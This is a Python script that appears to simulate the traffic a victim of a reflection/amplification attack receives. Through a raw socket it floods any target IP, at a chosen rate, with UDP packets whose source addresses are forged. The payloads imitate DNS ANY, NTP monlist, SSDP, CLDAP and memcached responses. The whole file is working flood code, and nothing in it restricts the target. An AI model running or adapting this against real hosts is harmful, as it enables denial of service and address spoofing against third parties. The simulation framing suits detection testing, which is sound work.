#!/usr/bin/env python3
"""What the victim of a reflection sees: large answers from many servers that it never asked. reflect.py VICTIM SERVER-PORT RATE SECONDS (raw socket: needs root)."""
import os
import random
import socket
import struct
import sys
import time

victim, port, rate, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4])
SIZE = {53: 1100, 123: 468, 389: 1200, 1900: 330, 11211: 1400}[port]
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
reflectors = [f"198.51.100.{i}" for i in random.sample(range(90, 199), 60)]


def answer():
    if port == 53:  # a response with 20 records, as "ANY" brings
        return struct.pack("!6H", random.randint(0, 65535), 0x8180, 1, 20, 0, 0) + b"\x04shop\x07example\x00" + struct.pack("!2H", 255, 1) + os.urandom(SIZE - 30)
    if port == 123:  # a monlist response
        return struct.pack("!BBBBHH", 0xD7, 0, 3, 42, 6, 72) + os.urandom(SIZE - 8)
    if port == 1900:  # the answer to an SSDP search
        return b"HTTP/1.1 200 OK\r\nCACHE-CONTROL: max-age=1800\r\nST: upnp:rootdevice\r\nUSN: uuid:" + os.urandom(110).hex().encode() + b"\r\n\r\n"
    if port == 389:  # a connectionless LDAP answer about the root of a directory
        return b"\x30\x84\x00\x00\x04\x9c\x02\x01\x07\x64\x84\x00\x00\x04\x93" + os.urandom(SIZE - 15)
    return struct.pack("!4H", 0, 0, 1, 0) + b"VALUE a 0 1048576\r\n" + b"x" * (SIZE - 27)


began, count = time.time(), 0
while time.time() - began < seconds:
    data = answer()
    udp = struct.pack("!4H", port, 40000 + count % 3, 8 + len(data), 0)
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28 + len(data), count & 0xFFFF, 0, 60, 17, 0, socket.inet_aton(random.choice(reflectors)), socket.inet_aton(victim))
    raw.sendto(head + udp + data, (victim, 0))
    count += 1
    time.sleep(max(0, began + count / rate - time.time()))
